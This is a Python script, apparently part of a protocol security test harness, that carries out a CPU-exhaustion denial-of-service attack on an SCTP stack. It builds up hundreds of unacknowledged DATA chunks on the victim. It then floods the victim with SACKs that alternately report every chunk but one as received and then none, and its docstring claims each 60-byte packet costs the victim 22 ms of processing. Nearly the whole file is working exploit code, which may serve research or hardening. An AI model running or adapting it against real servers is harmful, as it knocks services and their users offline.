"""Hundreds of chunks outstanding, and SACKs that report all but one of them and then none, in turn. Each of
them changed every chunk: 22 ms of the victim's processor for 60 bytes."""
from attack import LIB, RUN, main
from sctp import ABORT, DATA, Peer, chunk, chunks_of, data, sack

WARM_UP, AT_ONCE, CHUNKS, FLIPS = 30_000, 400, 1_500, 1_000
# Hundredths of a second without an echo after which none comes any more, also on a busy machine.
QUIET = 50


def acknowledged(peer, highest, until):
    """Acknowledges what comes until that is the TSN `until`, or nothing comes any more: of who is asked for more before, the
    answers pile up. A server that has no room for an answer leaves it out."""
    quiet = 0
    while highest < until and quiet < QUIET:
        before, highest = highest, echoes(peer, highest)
        quiet = quiet + 1 if highest == before else 0
        peer.send(sack(peer.their_tsn + highest, 1 << 24))
    return highest


def echoes(peer, highest):
    """The highest TSN that has come, after what comes now."""
    while (datagram := peer.receive(0.01)) is not None:
        for kind, _, body in chunks_of(datagram):
            assert kind != ABORT, "the victim has let go of who acknowledges nothing"
            if kind == DATA:
                tsn = int.from_bytes(body[:4], "big") - peer.their_tsn & 0xFFFFFFFF
                highest = max(highest, tsn)
    return highest


def some(peer, count):
    """Small messages, each of which has an echo."""
    for _ in range(count // 50):
        at = peer.tsn - peer.first
        peer.send(*[data(peer.tsn + n, b"x", ssn=at + n & 0xFFFF) for n in range(50)])
        peer.tsn += 50


def play(victim):
    peer = Peer(window=1 << 24).connect()
    # A window that is large enough.
    first = -1
    for _ in range(WARM_UP // AT_ONCE):
        some(peer, AT_ONCE)
        first = acknowledged(peer, first, first + AT_ONCE)
    highest = first
    # No more than there is room for: a server lets go of who reads none of its answers.
    for _ in range(CHUNKS // 250):
        some(peer, 250)
        # The same again: it may send what its window allows.
        peer.send(sack(peer.their_tsn + first, 1 << 24))
        highest = echoes(peer, highest)
    most = highest - first
    before = peer.their_tsn + first
    for n in range(FLIPS):
        gaps = [(2, most)] if n % 2 and most >= 2 else []
        peer.send(sack(before, 1 << 24, gaps))
        if n % 16 == 0:
            peer.drain()
    print(f"    {most} chunks outstanding")
    assert most > 300, "the victim did not send enough"
    peer.send(chunk(6))
    return FLIPS


main(play, victims=[RUN, LIB], memory=32, most=48, cpu=4)
